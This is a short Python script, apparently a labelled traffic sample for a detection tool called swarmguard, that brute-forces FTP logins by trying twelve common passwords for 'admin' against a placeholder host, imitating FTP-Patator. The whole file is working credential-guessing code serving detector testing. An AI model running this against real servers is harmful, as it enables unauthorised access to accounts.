#!/usr/bin/env python3
"""Sample: an FTP password guesser (harmless, written for swarmguard).

It tries twelve passwords for ``admin`` on ``ftp.target.example``, one connection each, the way
FTP-Patator does.
"""

# swarmguard-label: FTP-Patator

from __future__ import annotations

import ftplib

TARGET = "ftp.target.example"
PASSWORDS = [
    "123456", "password", "admin", "letmein", "qwerty", "welcome",
    "monkey", "dragon", "master", "secret", "shadow", "trustno1",
]  # fmt: skip


def main() -> None:
    """Try each password; stop at the first that works (none does)."""
    for password in PASSWORDS:
        with ftplib.FTP(timeout=3) as ftp:
            ftp.connect(TARGET, 21)
            try:
                ftp.login("admin", password)
            except ftplib.error_perm:
                continue
            print(f"found: {password}")
            return


if __name__ == "__main__":
    main()
